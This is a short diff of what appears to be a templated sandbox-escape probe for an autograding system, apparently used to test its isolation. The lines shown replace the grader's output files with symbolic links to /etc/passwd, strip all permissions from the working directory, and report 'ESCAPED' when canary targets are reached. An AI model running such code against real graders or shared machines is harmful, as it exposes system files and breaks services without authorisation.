@@ -25,5 +25,5 @@ for target in [*"@CANARIES@".split("|"), "@COURSE@", "@REPOSITORY@", torch.__fil
             os.unlink("sym")
 for name in ("notebook.ipynb", "results.json", "feedback", "stdout"):
     os.symlink("/etc/passwd", name)
-os.chmod(".", 0)
 print("tried", "ESC" + "APED: " + str(done) if done else "all links")
+os.chmod(".", 0)
